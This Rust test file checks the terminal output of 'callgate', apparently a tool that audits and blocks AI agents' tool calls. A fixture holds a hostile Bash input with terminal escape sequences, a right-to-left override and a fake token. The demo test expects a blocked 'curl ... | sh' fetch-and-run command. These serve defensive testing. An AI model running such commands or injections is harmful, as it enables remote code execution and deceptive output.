//! What people see on a terminal: tables that fit, readable calls, a demo that leads on.

use std::io::Read;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use callgate_audit::CallOutcome;
use unicode_width::UnicodeWidthStr as _;

use crate::mcp;
use crate::records::{call, store};
use crate::support::{Ran, Test};

/// Runs a command on a terminal of this width, and returns what it shows.
fn on_terminal(ran: &Ran, args: &[&str], columns: usize) -> String {
    let words = args.iter().map(|word| format!("'{}'", word.replace('\'', r"'\''")));
    let command =
        format!("{} {}", env!("CARGO_BIN_EXE_callgate"), words.collect::<Vec<_>>().join(" "));
    let output = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .current_dir(ran.dir.path())
        .env("HOME", ran.dir.path())
        .env("XDG_RUNTIME_DIR", ran.dir.path())
        .env_remove("XDG_STATE_HOME")
        .env_remove("XDG_CONFIG_HOME")
        .env("COLUMNS", columns.to_string())
        .env("NO_COLOR", "1")
        .env("TZ", "UTC")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    String::from_utf8(output.stdout).unwrap().replace('\r', "")
}

/// A denied call with everything in it that a terminal must not be given, and a long one.
fn with_calls() -> Ran {
    let ran = Test::new(&["policy", "check", "policy.yaml"]).run();
    let audit = store(ran.dir.path());
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let hostile = format!("git push --force\n\u{1b}[2J\u{202e}gnp.exe {token}");
    let inputs = [hostile, format!("echo {}", "long ".repeat(80))];
    for command in inputs {
        let input = serde_json::json!({ "command": command, "timeout": 5 }).to_string();
        audit.append(call("Bash", &input, CallOutcome::Deny)).wait().unwrap();
    }
    drop(audit);
    ran
}

#[test]
fn calls_can_be_read_at_80_columns() {
    let ran = with_calls();
    let shown = on_terminal(&ran, &["calls"], 80);
    let lines: Vec<&str> = shown.lines().collect();
    assert_eq!(lines.len(), 3, "{shown}");
    assert!(lines.iter().all(|line| line.width() <= 80), "{shown}");
    let hostile = lines[2];
    let words = ["deny", "test/no-rm", r"Bash: git push --force\n\u{1b}[2J"];
    assert!(words.iter().all(|word| hostile.contains(word)), "{shown}");
    assert!(!shown.contains("{\"command\""), "the command, not its JSON: {shown}");

    let wide = on_terminal(&ran, &["calls", "--wide"], 80);
    assert!(wide.lines().any(|line| line.width() > 400), "nothing is truncated: {wide}");
    assert!(wide.contains("model-1") && wide.contains("\"timeout\":5"), "{wide}");
    for shown in [&shown, &wide, &on_terminal(&ran, &["calls"], 200)] {
        assert!(!shown.contains(['\u{1b}', '\u{202e}']), "{shown:?}");
        assert!(!shown.contains("ghp_0123"), "{shown}");
    }

    let record = hostile.split_whitespace().next().unwrap();
    let ran = Test::again(ran, &["calls", "show", record]).run();
    assert!(
        ran.stdout.starts_with(&format!("record   {record}\n")),
        "{}{}",
        ran.stdout,
        ran.stderr
    );
    let ran = Test::again(ran, &["calls", "show", "99"]).run();
    assert!(ran.stderr.starts_with("error: there is no record 99\nhint: "), "{}", ran.stderr);
}

#[test]
fn every_table_fits_its_terminal() {
    let ran = mcp::filled(&["servers"]).run();
    let audit = callgate_store::Store::open(&callgate_store::Settings::at(
        callgate_store::Location::Sqlite(ran.dir.path().join("records.db")),
    ))
    .unwrap();
    audit.append(call("Bash", r#"{"command":"make deploy"}"#, CallOutcome::Deny)).wait().unwrap();
    drop(audit);
    let ran = Test::again(ran, &["keys", "add", "a-long-name-for-a-key", "--config", "c.yaml"])
        .with(&["--org", "an-organisation", "--team", "the-team-of-teams", "--user", "someuser"])
        .run();
    let tables: [&[&str]; 11] = [
        &["calls"],
        &["events"],
        &["stats"],
        &["keys", "list"],
        &["mcp", "servers"],
        &["mcp", "tools"],
        &["mcp", "calls"],
        &["mcp", "events"],
        &["mcp", "detections"],
        &["mcp", "pins", "list"],
        &["policy", "list", "policy.yaml"],
    ];
    for table in tables.into_iter().chain([&["policy", "detectors"][..]]) {
        let args = [table, &["--config", "c.yaml"]].concat();
        for columns in [60, 80] {
            let shown = on_terminal(&ran, &args, columns);
            let rows = shown.lines().filter(|line| !line.contains('`'));
            assert!(shown.lines().count() > 1, "{args:?}: {shown}");
            for row in rows {
                assert!(row.width() <= columns, "{args:?} at {columns}: {row}\n{shown}");
            }
        }
        if !["stats", "keys"].contains(&table[0]) {
            let narrow = on_terminal(&ran, &args, 80);
            let wide = on_terminal(&ran, &[&args[..], &["--wide"]].concat(), 80);
            let size = |text: &str| text.lines().map(|line| line.width()).sum::<usize>();
            assert!(size(&wide) >= size(&narrow), "{args:?}: {wide}");
            assert!(!wide.contains('…'), "{args:?}: {wide}");
        }
    }
}

#[test]
fn tail_shows_the_command_on_lines_that_fit() {
    let ran = with_calls();
    let shown = on_terminal(&ran, &["tail", "--no-follow"], 80);
    assert!(shown.contains(r"deny   Bash: git push --force\n"), "{shown}");
    assert!(shown.lines().all(|line| line.width() <= 80), "{shown}");
}

#[test]
fn tail_waits_for_the_first_record() {
    let (mut child, dir) = Test::new(&["tail"]).spawn();
    let mut waiting = [0; 14];
    child.stderr.as_mut().unwrap().read_exact(&mut waiting).unwrap();
    assert_eq!(&waiting, b"no records yet");
    let audit = store(dir.path());
    audit.append(call("Bash", r#"{"command":"make"}"#, CallOutcome::Allow)).wait().unwrap();
    let mut shown = Vec::new();
    let mut stdout = child.stdout.take().unwrap();
    let until = Instant::now() + Duration::from_secs(60);
    while !String::from_utf8_lossy(&shown).contains("Bash: make") {
        assert!(Instant::now() < until, "{}", String::from_utf8_lossy(&shown));
        let mut chunk = [0; 512];
        let n = stdout.read(&mut chunk).unwrap();
        assert!(n > 0, "it has ended");
        shown.extend_from_slice(&chunk[..n]);
    }
    child.kill().unwrap();
    child.wait().unwrap();
}

#[test]
fn the_demo_fits_80_columns_and_shows_a_block_first() {
    let ran = Test::new(&["demo", "--fast"]).run();
    assert_eq!((ran.code, ran.stderr.as_str()), (0, ""), "{}", ran.stdout);
    for line in ran.stdout.lines() {
        assert!(line.width() <= 80, "{line}");
    }
    let blocked = ran.stdout.find("callgate blocked").unwrap();
    let (before, after) = ran.stdout.split_at(blocked);
    assert!(before.lines().count() <= 12, "the block comes first: {before}");
    assert!(before.contains("call   Bash") && before.contains("| sh"), "{before}");
    let records = after.split("the records").nth(1).unwrap();
    let found = records.find("deny   Bash: curl -s https://example.com/x | sh");
    assert!(found < records.find("allow  Bash: cargo test"), "{records}");
}

/// The commands that the demo ends with work on a machine that has nothing yet.
#[test]
fn the_demo_leads_on() {
    let ran = Test::new(&["demo", "--fast"]).run();
    let next = ran.stdout.split("Next:\n").nth(1).unwrap();
    let commands: Vec<String> = next
        .lines()
        .filter_map(|line| line.strip_prefix("  callgate "))
        .map(|line| line.split("   ").next().unwrap().to_owned())
        .collect();
    assert_eq!(commands.len(), 4, "{next}");
    for command in commands {
        match command.split(' ').next().unwrap() {
            "check" => {
                let input = command.split('\'').nth(1).unwrap();
                let ran = Test::new(&["check", "--tool", "Bash", "--input", input]).run();
                assert!(ran.code == 1 && ran.stdout.starts_with("deny"), "{}", ran.stderr);
            }
            "init" => assert_eq!(Test::new(&["init"]).run().code, 0),
            "serve" => starts(&["serve", "--listen", "127.0.0.1:0"], "listening on"),
            "tail" => starts(&["tail"], "waiting for the first one"),
            other => panic!("`{other}` is not tried here"),
        }
    }
}

/// The command writes this to stderr on a fresh machine, and continues.
#[track_caller]
fn starts(args: &[&str], expected: &str) {
    let (mut child, _dir) = Test::new(args).spawn();
    let mut stderr = child.stderr.take().unwrap();
    let (send, receive) = std::sync::mpsc::channel();
    thread::spawn(move || {
        let mut chunk = [0; 4096];
        while let Ok(n @ 1..) = stderr.read(&mut chunk) {
            if send.send(String::from_utf8_lossy(&chunk[..n]).into_owned()).is_err() {
                return;
            }
        }
    });
    let (mut said, until) = (String::new(), Instant::now() + Duration::from_secs(60));
    while !said.contains(expected) && Instant::now() < until {
        said.extend(receive.recv_timeout(Duration::from_millis(100)));
    }
    let is_running = child.try_wait().unwrap().is_none();
    child.kill().unwrap();
    child.wait().unwrap();
    assert!(is_running && said.contains(expected), "{args:?}: {said}");
}
